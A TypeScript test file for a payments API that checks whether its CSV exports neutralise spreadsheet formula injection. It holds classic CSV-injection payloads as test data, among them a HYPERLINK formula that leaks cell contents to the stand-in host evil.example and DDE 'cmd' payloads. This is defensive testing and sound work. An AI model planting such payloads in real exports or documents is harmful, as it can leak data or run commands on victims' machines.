import { parse } from 'csv-parse/sync'
import t from 'tap'
import { csvDocument, safeCell } from '../../src/domain/csv.js'
import { buildTestApp, issue, registerBusiness, registerMember, scenario } from '../helper.js'
import { loadOpenApi } from '../openapi-validator.js'
import { createResearcher } from './ledger.js'

// No formula reaches a spreadsheet: a payer's reference lands in the payee's statement CSV, so each of the
// classic CSV-injection payloads is sent through the API and every CSV route is read back. The CSV routes are
// found in openapi.yaml (responses with text/csv): a new one without a case below fails this test.

const FORMULAS = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"Click for refund")',
  '+SUM(1+1)',
  "-2+3+cmd|' /C calc'!A0",
  '@SUM(1,2)',
  '\uFF1D1+1 (a full-width equals sign)',
  '=1,2;"quoted"',
]
const DANGEROUS = /^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/
const NUMBER = /^-?[0-9]+(\.[0-9]+)?$/

t.test('the CSV helper: formulas become text, numbers stay numbers', async (t) => {
  for (const f of [...FORMULAS, '\t=1', '\r=1', '-x', '+', '=']) t.equal(safeCell(f), `'${f}`, JSON.stringify(f))
  for (const n of ['-12.60', '0', '42', '-0.5', '1000000.00']) t.equal(safeCell(n), n, `${n} stays a number`)
  for (const s of ['coffee', 'a=b', 'x-y', '', "'already quoted"]) t.equal(safeCell(s), s, `${JSON.stringify(s)} is left alone`)
  const doc = csvDocument(['a', 'b', 'c'], [['=1+1', '-3.50', 7], { a: null, b: undefined, c: '@x' }])
  t.same(parse(doc), [['a', 'b', 'c'], ["'=1+1", '-3.50', '7'], ['', '', "'@x"]])
})

t.test('every CSV route: no cell a spreadsheet would evaluate, and the references come back as text', async (t) => {
  const ctx = await buildTestApp(t, { REPORTS_AGGREGATE_INTERVAL_MS: 0 })
  const s = await scenario(ctx)
  const payers = await Promise.all(FORMULAS.map(async () => await registerMember(ctx, s.code)))
  // five payees and payers at least, so report cells are not all suppressed
  const shops = await Promise.all(['food', 'retail', 'arts'].map(async (sector, i) =>
    await registerBusiness(ctx, s.code, { tradingName: `=cmd|' /C calc'!A${i}`, sector, postcode: `BS${i + 1} 4DJ` })))
  for (const p of payers) await issue(ctx, s.code, p.accountId, '50.00')
  for (const [i, p] of payers.entries()) {
    for (const [j, shop] of [s.business, ...shops].entries()) {
      const r = await ctx.call('POST', `/v1/currencies/${s.code}/payments`, {
        token: p.token, key: `f-${i}-${j}`, body: { fromAccount: p.accountId, toAccount: shop.accountId, amount: '1.50', channel: 'app', reference: FORMULAS[i] },
      })
      t.equal(r.status, 201, `a reference may start with ${JSON.stringify(FORMULAS[i].slice(0, 3))}: it is text, stored as sent`)
    }
  }
  // the payers round a ring too: each business's flows cell is one business's (hidden, so not listed), the
  // members' cell is published, so the flows CSV has a row
  for (const [i, p] of payers.entries()) {
    const r = await ctx.call('POST', `/v1/currencies/${s.code}/payments`, {
      token: p.token, key: `ring-${i}`, body: { fromAccount: p.accountId, toAccount: payers[(i + 1) % payers.length].accountId, amount: '1.00', channel: 'app' },
    })
    t.equal(r.status, 201, r.text)
  }
  // the reserve's reconciliation CSV carries the sterling references an exchange point types
  for (const [i, f] of FORMULAS.entries()) {
    const sale = await ctx.call('POST', `/v1/currencies/${s.code}/notes/sales`, {
      token: ctx.issuerToken, key: `n-${i}`, body: { amount: '5.00', denominations: { 5: 1 }, sterlingReference: f },
    })
    t.equal(sale.status, 201, `a sterling reference may start with ${JSON.stringify(f.slice(0, 3))}`)
  }
  const currencyId = (await ctx.app.pool.query<{ id: string }>('SELECT id FROM currency WHERE code = $1', [s.code])).rows[0].id
  await createResearcher(ctx.app.pool, currencyId, 'res-csv', 'researcher-password')
  const researcher = await ctx.token('res-csv', 'researcher-password')

  const cases: Record<string, () => Promise<{ text: string, status: number }>> = {
    'GET /v1/accounts/{id}/statement': async () => await ctx.call('GET', `/v1/accounts/${s.business.accountId}/statement?format=csv&limit=200`, { token: s.business.token }),
    'GET /v1/currencies/{code}/reports/circulation': async () => await ctx.call('GET', `/v1/currencies/${s.code}/reports/circulation?format=csv&interval=day&from=${new Date(Date.now() - 3 * 86_400_000).toISOString().slice(0, 10)}`, { token: researcher }),
    // the payments are today's, which a researcher's flows do not hold yet (docs/disclosure.md): the issuer's
    'GET /v1/currencies/{code}/reports/flows': async () => await ctx.call('GET', `/v1/currencies/${s.code}/reports/flows?format=csv&by=sector`, { token: ctx.issuerToken }),
    'GET /v1/currencies/{code}/exports/transfers': async () => await ctx.call('GET', `/v1/currencies/${s.code}/exports/transfers`, { token: researcher }),
    'GET /v1/currencies/{code}/reserve': async () => await ctx.call('GET', `/v1/currencies/${s.code}/reserve?format=csv`, { token: ctx.issuerToken }),
    'GET /v1/currencies/{code}/exports/accounts': async () => await ctx.call('GET', `/v1/currencies/${s.code}/exports/accounts`, { token: researcher }),
  }
  const doc = loadOpenApi()
  const csvRoutes = Object.entries(doc.paths).flatMap(([path, ops]) => Object.entries(ops)
    .filter(([, op]) => Object.values(op.responses ?? {}).some(r => r.content?.['text/csv'] != null))
    .map(([m]) => `${m.toUpperCase()} ${path}`))
  t.same(csvRoutes.sort(), Object.keys(cases).sort(), 'every CSV route in openapi.yaml is attacked here')

  for (const [route, get] of Object.entries(cases)) {
    const r = await get()
    t.equal(r.status, 200, route)
    const rows = parse(r.text) as string[][]
    t.ok(rows.length > 1, `${route}: ${rows.length - 1} rows`)
    const bad = rows.flat().filter(c => DANGEROUS.test(c) && !NUMBER.test(c))
    t.same(bad, [], `${route}: no cell starts a formula`)
  }
  const statement = parse((await cases['GET /v1/accounts/{id}/statement']()).text, { columns: true }) as Array<Record<string, string>>
  const refs = new Set(statement.map(e => e.reference))
  for (const f of FORMULAS) t.ok(refs.has(`'${f}`), `${JSON.stringify(f.slice(0, 12))}... is in the statement, as text`)
  const payer = parse((await ctx.call('GET', `/v1/accounts/${payers[0].accountId}/statement?format=csv`, { token: payers[0].token })).text, { columns: true }) as Array<Record<string, string>>
  t.not(payer.find(e => e.amount === '-1.50'), undefined, 'a negative amount is still a number')
})
